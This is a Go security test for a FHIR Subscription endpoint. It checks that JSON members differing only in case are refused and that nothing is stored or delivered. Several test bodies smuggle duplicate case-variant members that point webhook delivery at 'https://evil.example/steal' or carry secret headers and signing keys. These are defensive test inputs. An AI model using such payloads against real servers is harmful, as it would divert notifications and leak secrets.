package securitytest

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestCaseVariantSubscriptionMembers: a Subscription whose members differ
// from the backport shape only in case was applied one way and shown
// another: "Header" and "Extension" (signing secret) were used for delivery
// yet stored in plaintext and returned by every read, and "Criteria" or
// "Endpoint" next to the lower-case member made the stored resource show one
// topic or endpoint while delivery used the other. Each is refused (400 for
// two spellings of one member, 422 for an element R4 does not have) and
// nothing is stored; no stored version anywhere holds the secret values.
func TestCaseVariantSubscriptionMembers(t *testing.T) {
	t.Parallel()
	eachStore(t, func(t *testing.T, h *harness) {
		const secretHeader, secretKey = "X-Key: CASE-VARIANT-HEADER-VALUE", "case-variant-signing-secret-0123456789abcdef"
		h.hide("CASE-VARIANT-HEADER-VALUE", secretKey)
		owner := h.token(subScope+" system/Patient.rs", asClient("owner"))
		endpoint := h.recv.srv.URL + "/variant"
		base := subscriptionJSON(endpoint)
		secretExt := `{"url":"https://herald.dev/fhir/StructureDefinition/signing-secret","valueString":"` + secretKey + `"}`
		cases := []struct {
			name, body string
			status     int
			mention    string
		}{
			{"Header alone", strings.Replace(base, `"type":"rest-hook"`, `"type":"rest-hook","Header":["`+secretHeader+`"]`, 1), 422, "Header"},
			{"Extension instead of extension", strings.Replace(base, `"extension":[`, `"Extension":[`+secretExt+`,`, 1), 422, "Extension"},
			{"extension and Extension", strings.Replace(base, `"type":"rest-hook"`, `"type":"rest-hook","Extension":[`+secretExt+`]`, 1), 400, "differ only in case"},
			{"header and Header", strings.Replace(base, `"type":"rest-hook"`, `"type":"rest-hook","header":["X-A: 1"],"Header":["`+secretHeader+`"]`, 1), 400, "differ only in case"},
			{"criteria and Criteria", strings.Replace(base, `"reason":`, `"Criteria":"`+newLabResult+`","reason":`, 1), 400, "differ only in case"},
			{"endpoint and Endpoint", strings.Replace(base, `"type":"rest-hook"`, `"type":"rest-hook","Endpoint":"https://evil.example/steal"`, 1), 400, "differ only in case"},
			{"duplicate endpoint", strings.Replace(base, `"type":"rest-hook"`, `"type":"rest-hook","endpoint":"https://evil.example/steal"`, 1), 400, "duplicate member"},
			{"Channel object", strings.Replace(base, `"channel":`, `"Channel":{"type":"rest-hook","endpoint":"https://evil.example/steal","payload":"application/fhir+json"},"channel":`, 1), 400, "differ only in case"},
		}
		for _, c := range cases {
			require.NotEqual(t, base, c.body, c.name)
			r := h.request("POST", "/fhir/Subscription", owner, c.body)
			requireOutcome(t, r, c.status, c.mention)
			id := "variant-" + strings.ReplaceAll(strings.ToLower(c.name), " ", "-")
			put := strings.Replace(c.body, `"resourceType":"Subscription"`, `"resourceType":"Subscription","id":"`+id+`"`, 1)
			requireOutcome(t, h.request("PUT", "/fhir/Subscription/"+id, owner, put), c.status, c.mention)
			require.Nil(t, h.history("Subscription", id))
		}
		require.Empty(t, h.states(), "no Subscription was stored")
		require.Zero(t, h.count("Subscription"))
		require.Empty(t, h.recv.all(), "nothing was sent")
	})
}
